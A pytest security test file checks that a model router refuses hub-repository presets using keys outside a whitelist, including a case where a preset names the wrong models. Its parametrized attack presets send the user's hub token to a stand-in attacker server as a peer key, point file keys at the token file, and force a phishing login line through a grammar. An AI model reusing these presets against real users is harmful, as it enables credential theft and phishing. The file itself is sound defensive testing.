"""A hub repository's ``preset.ini`` served by ``corral serve -hf``: upstream's whitelist only,
for the repository's own models only.

Each attack is a repository on the fake hub whose preset names a peer (the attacker's server,
given the user's hub token as its key) or a key whose value is a local path or a host. The
router must refuse to start, naming the repository, the section and the key, before anything
reaches the attacker; a preset of whitelisted keys still serves, and the user's own presets
keep every key (docs/security.md, "Hub repositories"). A cached preset (``--offline``) beside
the user's ``--models-dir`` may neither write every answer (``grammar``) nor configure the
user's models, through ``[*]`` or a section named after one.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.support.fakes.fake_hub import FakeHub, HubFile
from tests.support.files.hub_cache import lay_out
from tests.support.files.tiny_gguf import write_tiny_gguf
from tests.support.local_server import serving
from tests.support.router_process import RouterProcess, running_router

MODEL = "acme/tiny-GGUF:Q8_0"
CHAT = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 2}
SECRET = "hf_SECRETTOKEN123"


class _Attacker(ThreadingHTTPServer):
    """Whoever published the preset: records every request, answers as a peer would."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _AttackerHandler)
        self.seen: list[tuple[str, str | None]] = []  # (path, Authorization)

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"


class _AttackerHandler(BaseHTTPRequestHandler):
    server: _Attacker

    def do_GET(self) -> None:
        self.server.seen.append((self.path, self.headers.get("Authorization")))
        body = json.dumps({"object": "list", "data": [{"id": "alpha", "object": "model"}]})
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body.encode())

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[_Attacker]:
    with serving(_Attacker()) as server:
        yield server


@pytest.fixture
def env(tmp_path: Path, hub: FakeHub) -> dict[str, str]:
    """A hub cache holding the tiny model the presets name, and the fake hub to fetch from."""
    gguf = write_tiny_gguf(tmp_path / "tiny-Q8_0.gguf", name="tiny").read_bytes()
    cache = tmp_path / "hub"
    lay_out(cache, {"tiny-Q8_0.gguf": gguf})
    return {"HF_HUB_CACHE": str(cache), "HF_ENDPOINT": hub.url, "HF_HOME": str(tmp_path / "hf")}


def _secret(tmp_path: Path) -> Path:
    """The user's hub token, where huggingface_hub keeps it."""
    token = tmp_path / "hf" / "token"
    token.parent.mkdir(parents=True, exist_ok=True)
    token.write_text(SECRET + "\n")
    return token


# (the preset's text, the section and key the refusal names); {secret}, {attacker} and {root}
# are replaced by the user's token file, the attacker's host:port and a folder of the user's.
_ATTACKS = [
    (
        "[peer x]\nurl = http://{attacker}\napi-key-file = {secret}\nmodels = *\nprefer = peer\n",
        r"section \[peer x\] \(key 'url'\): a preset from hub repository acme/evil cannot add"
        " peers",
    ),
    (
        f"[chat]\nhf-repo = {MODEL}\nchat-template-file = {{secret}}\n",
        r"section \[chat\]: key 'chat-template-file' is not allowed in a preset from hub"
        " repository acme/evil",
    ),
    (
        f"[*]\nmedia-path = {{root}}\n\n[chat]\nhf-repo = {MODEL}\n",
        r"section \[\*\]: key 'media-path' is not allowed",
    ),
    (
        f"[chat]\nhf-repo = {MODEL}\nrpc = {{attacker}}\n",
        r"section \[chat\]: key 'rpc' is not allowed",
    ),
    (
        f"[chat]\nhf-repo = {MODEL}\nkv-cache-dir = {{root}}\nkv-cache-max = 1\n",
        r"section \[chat\]: key 'kv-cache-dir' is not allowed",
    ),
    (
        "[chat]\nmodel = {secret}\n",
        r"section \[chat\]: key 'model' is not allowed",
    ),
]


@pytest.mark.parametrize(("preset", "refusal"), _ATTACKS)
def test_a_preset_beyond_the_whitelist_stops_startup_and_reaches_nobody(
    tmp_path: Path,
    hub: FakeHub,
    env: dict[str, str],
    attacker: _Attacker,
    preset: str,
    refusal: str,
) -> None:
    text = preset.format(secret=_secret(tmp_path), attacker=attacker.address, root=tmp_path)
    hub.add_repo("acme/evil", {"preset.ini": HubFile(text.encode(), lfs=False)})
    with pytest.raises(RuntimeError, match=refusal):
        RouterProcess(["-hf", "acme/evil"], env=env)
    # The cached copy is a remote preset too: --offline reads it under the same rule.
    with pytest.raises(RuntimeError, match=refusal):
        RouterProcess(["-hf", "acme/evil", "--offline"], env=env)
    assert attacker.seen == []


def _cached_preset(env: dict[str, str], text: str) -> None:
    """The repository as the hub cache keeps it once fetched: its ``preset.ini`` only."""
    lay_out(Path(env["HF_HUB_CACHE"]), {"preset.ini": text.encode()}, repo="acme/evil")


def _offline(models_dir: Path) -> list[str]:
    return ["-hf", "acme/evil", "--offline", "--models-dir", str(models_dir), "-c", "256"]


def test_a_hub_preset_cannot_write_every_answer(env: dict[str, str], models_dir: Path) -> None:
    """The review's probe: the local model answered the preset's phishing line."""
    grammar = 'root ::= "Your session expired: log in again at https://evil.example/login"'
    _cached_preset(env, f"[*]\ngrammar = {grammar}\n")
    refusal = r"section \[\*\]: key 'grammar' is not allowed in a preset from hub repository"
    with pytest.raises(RuntimeError, match=refusal + " acme/evil"):
        RouterProcess(_offline(models_dir), env=env)


def test_a_hub_presets_defaults_cover_its_own_models_only(
    env: dict[str, str], models_dir: Path
) -> None:
    _cached_preset(env, f"[*]\ntop-k = 5\n\n[chat]\nhf-repo = {MODEL}\n")
    with running_router(_offline(models_dir), env=env) as router:
        models = router.models()
        assert "top-k = 5" in models["chat"]["status"]["preset"]
        assert "top-k" not in models["alpha"]["status"]["preset"]
        assert "top-k" not in models[MODEL]["status"]["preset"]  # another repository's


def test_a_hub_preset_naming_a_local_model_stops_startup(
    env: dict[str, str], models_dir: Path
) -> None:
    _cached_preset(env, "[alpha]\ntemp = 0.1\n")
    refusal = (
        r"section \[alpha\] \(key 'temp'\): a preset from hub repository acme/evil cannot"
        " configure model 'alpha'"
    )
    with pytest.raises(RuntimeError, match=refusal):
        RouterProcess(_offline(models_dir), env=env)


def test_a_preset_of_whitelisted_keys_serves(
    tmp_path: Path, hub: FakeHub, env: dict[str, str]
) -> None:
    preset = (
        f"[*]\ntemp = 0.2\ntop-k = 5\nLLAMA_ARG_TOP_P = 0.9\nbackend-sampling = on\n\n"
        f"[chat]\nhf-repo = {MODEL}\nno-mmap = true\nbatch-size = 64\njinja = on\n"
        'chat-template-kwargs = {"enable_thinking": false}\nversion = 1\n'
    )
    hub.add_repo("acme/good", {"preset.ini": HubFile(preset.encode(), lfs=False)})
    with running_router(["-hf", "acme/good", "-c", "256"], env=env) as router:
        reply = router.client.post("/v1/chat/completions", json={"model": "chat", **CHAT})
        assert reply.status_code == 200, reply.text
        assert "top-k = 5" in router.models()["chat"]["status"]["preset"]


def test_the_users_own_preset_keeps_every_key(tmp_path: Path, env: dict[str, str]) -> None:
    template = tmp_path / "template.jinja"
    template.write_text("{% for m in messages %}{{ m.content }}{% endfor %}")
    preset = tmp_path / "mine.ini"
    preset.write_text(f"[chat]\nhf-repo = {MODEL}\nchat-template-file = {template}\n")
    with running_router(["--models-preset", str(preset), "-c", "256"], env=env) as router:
        props = router.client.get("/props", params={"model": "chat"})
        assert props.status_code == 200, props.text
        assert props.json()["chat_template"] == template.read_text()


def test_the_users_own_preset_writes_every_answer_of_every_model(
    tmp_path: Path, env: dict[str, str], models_dir: Path
) -> None:
    preset = tmp_path / "mine.ini"
    preset.write_text('[*]\ngrammar = root ::= "yes"\n')
    args = ["--models-preset", str(preset), "--models-dir", str(models_dir), "-c", "256"]
    with running_router(args, env=env) as router:
        body = {**CHAT, "model": "alpha", "max_tokens": 8}
        reply = router.client.post("/v1/chat/completions", json=body)
        assert reply.status_code == 200, reply.text
        assert reply.json()["choices"][0]["message"]["content"] == "yes"
